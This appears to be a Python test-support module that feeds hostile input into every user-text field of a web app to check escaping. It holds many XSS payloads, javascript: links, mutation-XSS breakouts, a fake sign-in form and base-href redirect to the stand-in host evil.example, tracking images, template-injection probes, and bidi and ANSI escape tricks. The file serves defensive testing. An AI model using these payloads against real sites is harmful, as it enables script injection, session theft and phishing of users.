"""Texts that mean harm, for every place where others write what our pages show.

If any of it ever runs as script, `window.pwned` is set in the page; if any of it is followed, a request goes to
`evil.example`; if any of it asks somebody, a dialog comes up. A desk (chromium.py) notes all three.
"""

from __future__ import annotations

from tests.support.showstock import Words

LONG_WORD = "W" * 3000
TURNED = "\u202etxt.exe \u2066isolated \u2067and back"
"""Turns what follows it round, unless that is in another element."""
HIDDEN = "in\u200bvis\u200dible\ufeff \u2060word \u00adsoft"
ANSI = "\x1b[31mred\x1b[0m \x1b]8;;javascript:window.pwned='ansi'\x07link\x1b]8;;\x07 \x1b[2J\x1b]0;title\x07\x08\x08"
MARKUP = (
    "<script>window.pwned='script'</script>",
    '"><img src=x onerror="window.pwned=\'img\'">',
    "' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=2' x='",
    "</title></textarea></style></script></noscript></pre><svg onload=\"window.pwned='svg'\">",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=window.pwned='mxss'&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned='noscript'>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.pwned='mxss2'>\">",
    "<form action=http://evil.example/><input name=csrf_token><button>Sign in again</button></form>",
    "<iframe src=\"javascript:parent.window.pwned='frame'\"></iframe><object data=http://evil.example/x></object>",
    "<base href=http://evil.example/><meta http-equiv=refresh content=0;url=http://evil.example/>",
    "<a href=\"javascript:window.pwned='link'\">click</a> <img src=http://evil.example/track.gif>",
    "`<img src=x onerror=window.pwned='code'>` {{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {visit} {0} %s",
    "&lt;script&gt;window.pwned='entity'&lt;/script&gt; &#x3c;img src=x onerror=window.pwned=3&#x3e;",
)
_LINES = f"{'word ' * 20} {MARKUP[1]} {TURNED}\n"
_MARKDOWN = """
[click me](javascript:window.pwned='md') [and me](JaVaScRiPt:window.pwned='md2')
[here](data:text/html,<script>1</script>)
[with tab](java\tscript:window.pwned='md3') [vb](vbscript:msgbox) [x](<javascript:window.pwned='md4'>)
![tracked](http://evil.example/track.gif) ![x](javascript:window.pwned='md5') ![y](//evil.example/y.png)
<javascript:window.pwned='md6'>

<div style="position:fixed;inset:0;background:red;z-index:9999" onclick="window.pwned='div'">over everything</div>
<style>body { display: none }</style><link rel=stylesheet href=http://evil.example/x.css>
<details open ontoggle="window.pwned='toggle'"><summary>x</summary></details>
<video src=http://evil.example/v.mp4 autoplay onerror="window.pwned='video'"></video>
<input type=image src=http://evil.example/i.png><h1 id=main class=bar>Not the page's own heading</h1>
<a href="http://evil.example/" target=_blank id=f-q name=body>a link with a name</a>
<form action="/__logout__" method=post><button id=main>Go on</button></form>

| a | b |
| - | - |
| {markup} | {long} |

```html
{markup}
```

{ansi} {turned}

{long}
"""


class Harmful(Words):
    """Every text is followed by all that may do harm in its place; the names of things stay what they are."""

    def line(self, text: str, most: int = 20_000) -> str:
        # Where there is room for some alone, each place has others.
        first = sum(map(ord, text)) % len(MARKUP)
        return " ".join([text, *MARKUP[first:], *MARKUP[:first], TURNED, HIDDEN, LONG_WORD])[:most]

    def block(self, text: str) -> str:
        return "\n".join([text, *MARKUP, TURNED, HIDDEN, LONG_WORD])

    def readme(self, text: str) -> str:
        text += _MARKDOWN
        told = {"markup": " ".join(MARKUP), "long": LONG_WORD, "ansi": ANSI, "turned": TURNED}
        for name, value in told.items():
            text = text.replace(f"{{{name}}}", value)
        return text

    def bulk(self, size: int) -> str:
        return _LINES * (size // len(_LINES))

    def url(self, url: str) -> str:
        return f"javascript:window.pwned='url'//{url}"

    def said(self) -> list[str]:
        return [*MARKUP, ANSI, TURNED, HIDDEN, LONG_WORD, "\x1b[31m" * 1000, "\r\r\roverwritten\rtwice"]
